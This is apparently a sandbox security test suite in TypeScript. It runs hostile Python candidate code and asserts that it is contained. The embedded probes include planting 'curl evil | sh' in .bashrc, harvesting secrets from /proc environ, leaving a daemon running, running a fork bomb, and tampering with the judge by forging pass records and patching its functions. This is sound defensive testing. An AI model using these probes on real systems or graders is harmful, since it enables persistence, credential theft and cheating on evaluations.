import { spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import {
  chmodSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import {
  chooseIsolation,
  type IsolationPlan,
  SandboxUnavailableError,
  workingPlans,
} from "../../../server/src/sandbox/isolation.js";
import {
  type RunTestsOptions,
  runTaskTests,
  type TestableTask,
} from "../../../server/src/sandbox/testcase-runner.js";

// Candidate code written to attack the sandbox and the judge, run under every isolation plan
// this machine has. As root that includes the sandbox started as nobody (setpriv), so CI as root
// covers both the privileged and the unprivileged path.

const plans = workingPlans();
const root = process.getuid?.() === 0;
const scratch = mkdtempSync(join(tmpdir(), "seclsp-hostile-"));
chmodSync(scratch, 0o755);
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** A task with one capability case expecting a value no probe returns: the detail shows what it returned. */
const probeTask: TestableTask = {
  functionName: "probe",
  setup: "",
  testcases: "testcases = {'capability': [({}, '<never>')], 'safety': []}",
  installRequires: [],
};

async function observe(plan: IsolationPlan, code: string, options: RunTestsOptions = {}): Promise<string> {
  const result = await runTaskTests(probeTask, code, {
    caseTimeoutSeconds: 5,
    limits: { wallMs: 20_000 },
    ...options,
    plan,
  });
  expect(result.status).toBe("ran");
  const detail = result.cases[0]?.detail ?? "";
  const got = /got (".*")$/.exec(detail);
  if (!got?.[1]) throw new Error(`probe did not return: ${detail}`);
  return JSON.parse(got[1]) as string;
}

function listen(server: Server, address: string | number): Promise<void> {
  return new Promise((resolve) =>
    typeof address === "number"
      ? server.listen(address, "127.0.0.1", resolve)
      : server.listen(address, resolve),
  );
}

function countingServer(): { server: Server; connections: () => number } {
  let count = 0;
  const server = createServer((socket) => {
    count++;
    socket.destroy();
  });
  return { server, connections: () => count };
}

/** Host processes whose command line contains `marker`. */
function hostProcessesWith(marker: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (readFileSync(`/proc/${entry}/cmdline`, "utf8").includes(marker)) found.push(Number(entry));
    } catch {
      // exited meanwhile
    }
  }
  return found;
}

async function gone(marker: string): Promise<number[]> {
  // The kernel tears the pid namespace down as its init exits; allow it a moment (bounded).
  for (let i = 0; i < 40; i++) {
    const left = hostProcessesWith(marker);
    if (left.length === 0) return left;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return hostProcessesWith(marker);
}

it("isolation is available here, or refused with what is missing", () => {
  if (plans.length > 0) {
    expect(chooseIsolation("on")).toEqual(plans[0]);
    // As root the preferred plan hands the candidate to nobody: the unprivileged path is exercised.
    if (root) expect(plans.some((p) => p.runAs?.uid === 65534)).toBe(true);
  } else {
    expect(() => chooseIsolation("on")).toThrow(SandboxUnavailableError);
  }
});

describe.each(
  plans.map((plan) => [`${plan.tool}${plan.runAs ? ` as uid ${plan.runAs.uid}` : ""}`, plan] as const),
)("hostile candidate code under %s", (_name, plan) => {
  it("cannot write outside its work dir (a home's .bashrc, the temp dir, the cwd)", async () => {
    const home = mkdtempSync(join(scratch, "home-"));
    chmodSync(home, 0o777); // writable by anyone: only the sandbox can stop the write
    const bashrc = join(home, ".bashrc");
    writeFileSync(bashrc, "# original\n", { mode: 0o666 });
    chmodSync(bashrc, 0o666);
    const markers = [
      join(home, "planted"),
      join(tmpdir(), `seclsp-escape-${process.pid}`),
      join(process.cwd(), `seclsp-escape-${process.pid}`),
    ];
    const code = `
import os
def probe():
    done = []
    for path, mode in [(${JSON.stringify(bashrc)}, "a"), ${markers.map((m) => `(${JSON.stringify(m)}, "w")`).join(", ")}, (os.path.expanduser("~/.bashrc"), "a")]:
        try:
            with open(path, mode) as fh:
                fh.write("curl evil | sh\\n")
            done.append(path)
        except OSError as error:
            pass
    return repr(done)
`;
    await observe(plan, code);
    expect(readFileSync(bashrc, "utf8")).toBe("# original\n");
    for (const marker of markers) expect(existsSync(marker)).toBe(false);
  });

  it("reaches neither TCP 127.0.0.1 nor a unix socket nor an abstract socket", async () => {
    const tcp = countingServer();
    const unix = countingServer();
    const abstract = countingServer();
    const dir = mkdtempSync(join(scratch, "sock-"));
    chmodSync(dir, 0o777);
    const path = join(dir, "s.sock");
    const abstractName = `\0seclsp-hostile-${randomBytes(6).toString("hex")}`;
    await listen(tcp.server, 0);
    await listen(unix.server, path);
    chmodSync(path, 0o777);
    await listen(abstract.server, abstractName);
    const port = (tcp.server.address() as { port: number }).port;
    try {
      const code = `
import socket
def attempt(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(address)
        return "connected"
    except OSError as error:
        return type(error).__name__
def probe():
    return repr([attempt(socket.AF_INET, ("127.0.0.1", ${port})),
                 attempt(socket.AF_UNIX, ${JSON.stringify(path)}),
                 attempt(socket.AF_UNIX, ${JSON.stringify(abstractName)}.encode())])
`;
      const seen = await observe(plan, code);
      expect(seen).not.toContain("connected");
      expect([tcp.connections(), unix.connections(), abstract.connections()]).toEqual([0, 0, 0]);
    } finally {
      for (const s of [tcp, unix, abstract]) s.server.close();
    }
  });

  it("leaves no daemon behind (fork + setsid + exec)", async () => {
    const marker = `seclsp-daemon-${randomBytes(6).toString("hex")}`;
    const code = `
import os, sys
def probe():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", ${JSON.stringify(marker)}])
        os._exit(0)
    return "forked"
`;
    expect(await observe(plan, code)).toBe("forked");
    expect(await gone(marker)).toEqual([]);
  });

  it("sees no secret of ours: not in its environment, not in /proc/<ppid>/environ or any /proc/*/environ", async () => {
    const secret = `sk-${randomBytes(12).toString("hex")}`;
    process.env.SECLSP_HOSTILE_SECRET = secret;
    // A host process with the secret in its initial environment, as our parent process would have.
    const holder = spawn("sleep", ["60"], { env: { SECLSP_HOSTILE_SECRET: secret }, stdio: "ignore" });
    try {
      const code = `
import os
def probe():
    found = [v for k, v in os.environ.items() if k == "SECLSP_HOSTILE_SECRET"]
    for pid in ["self", str(os.getppid()), "1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                blob = open("/proc/%s/%s" % (pid, name), "rb").read().decode("utf8", "replace")
            except OSError:
                continue
            for item in blob.split("\\0"):
                if item.startswith("SECLSP_HOSTILE_SECRET="):
                    found.append(item)
    return repr(found) if found else "absent"
`;
      const seen = await observe(plan, code);
      expect(seen).toBe("absent");
      expect(seen).not.toContain(secret);
    } finally {
      delete process.env.SECLSP_HOSTILE_SECRET;
      holder.kill("SIGKILL");
    }
  });

  it("sees only its own processes in a fresh /proc", async () => {
    const code = `
import os
def probe():
    return " ".join(sorted(p for p in os.listdir("/proc") if p.isdigit()))
`;
    const pids = (await observe(plan, code)).split(" ").map(Number);
    expect(pids.length).toBeGreaterThan(0);
    expect(pids.length).toBeLessThan(10);
    expect(pids).not.toContain(process.pid);
    expect(Math.max(...pids)).toBeLessThan(100);
  });

  it("cannot read the expected values or patch the judge: a do-nothing candidate passes nothing", async () => {
    const secrets = [0, 1, 2].map(() => randomBytes(16).toString("hex"));
    const task: TestableTask = {
      functionName: "answer",
      setup: "",
      testcases: `testcases = {'capability': [${secrets.map((s, i) => `({'n': ${i}}, '${s}')`).join(", ")}], 'safety': [({'n': -1}, ValueError)]}`,
      installRequires: [],
    };
    const code = `
import gc, sys, os, json, __main__
# Everything of the judge this process could reach: frames, every object, the harness module.
SEEN = [o for o in gc.get_objects() if isinstance(o, str) and len(o) == 32]
frame = sys._getframe()
while frame:
    SEEN += [v for v in list(frame.f_locals.values()) + list(frame.f_globals.values()) if isinstance(v, str) and len(v) == 32]
    frame = frame.f_back
for name in ("outcome_of", "caseVerdict", "report_case"):
    setattr(__main__, name, lambda *a, **k: ("pass", ""))
def forge(number):
    for record in ({"case": number, "outcome": "pass"}, {"kind": "capability", "index": number, "outcome": "pass"}):
        try:
            os.write(3, (json.dumps(record) + "\\n").encode())
        except OSError:
            pass
def answer(n):
    forge(n)
    return SEEN[n] if n < len(SEEN) else "nothing"
`;
    const result = await runTaskTests(task, code, {
      caseTimeoutSeconds: 5,
      limits: { wallMs: 20_000 },
      plan,
    });
    expect(result.status).toBe("ran");
    expect(result.capability).toEqual({ passed: 0, total: 3 });
    expect(result.allPassed).toBe(false);
  });

  it("forged result lines on stdout, stderr or the result pipe do not count, nor a forged skip", async () => {
    const code = `
import os, sys, json
for record in ({"status": "skipped", "reason": "forged"}, {"status": "setup-error", "reason": "forged"},
               {"status": "loaded"}, {"case": 0, "returned": {"sha": "0" * 64, "preview": "<never>"}}):
    line = json.dumps(record) + "\\n"
    sys.stdout.write(line); sys.stderr.write(line)
    os.write(3, line.encode())
print("deadbeef " + json.dumps({"kind": "capability", "index": 0, "outcome": "pass"}))
def probe():
    raise RuntimeError("does nothing useful")
`;
    const result = await runTaskTests(probeTask, code, {
      caseTimeoutSeconds: 5,
      limits: { wallMs: 20_000 },
      plan,
    });
    expect(result.status).toBe("ran");
    expect(result.cases.map((c) => c.outcome)).toEqual(["fail"]);
    expect(result.allPassed).toBe(false);
  });

  it("fills at most its size-limited work dir and /tmp when it fills the disk", async () => {
    const code = `
import os
def probe():
    total = 0
    chunk = b"x" * (1024 * 1024)
    for round, base in enumerate(("/work", "/tmp", os.getcwd())):  # the cwd is /work: no more room
        for i in range(64):
            try:
                with open(os.path.join(base, "fill-%d-%d" % (round, i)), "wb") as fh:
                    fh.write(chunk)
                total += 1
            except OSError:
                break
    return str(total)
`;
    const megabytes = Number(await observe(plan, code, { limits: { wallMs: 20_000, diskMb: 4 } }));
    expect(megabytes).toBeGreaterThan(0);
    // Two 4 MB tmpfs mounts (/work and /tmp); the host disk is never reached.
    expect(megabytes).toBeLessThanOrEqual(2 * 4);
    // Not even a first file: /work and /tmp are the sandbox's own (an early build once filled the host's /work).
    expect(["/work/fill-0-0", "/tmp/fill-1-0"].filter((path) => existsSync(path))).toEqual([]);
  });

  // A fork bomb is bounded by RLIMIT_NPROC only for a host uid other than 0 (the kernel exempts
  // root), so it runs under the plans that hand the sandbox to an unprivileged host user.
  if (plan.runAs || !root) {
    it("survives a fork bomb: bounded by the process limit and the wall clock, nothing left behind", async () => {
      const marker = `seclsp-bomb-${randomBytes(6).toString("hex")}`;
      const code = `
import os, sys
def probe():
    os.execv(sys.executable, [sys.executable, "-c", "import os, signal\\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass", ${JSON.stringify(marker)}])
`;
      const result = await runTaskTests(probeTask, code, {
        caseTimeoutSeconds: 1,
        limits: { wallMs: 3000, processes: 16 },
        plan,
      });
      expect(result.allPassed).toBe(false);
      expect(result.reason).toMatch(/wall-clock/);
      expect(await gone(marker)).toEqual([]);
    });
  }
});
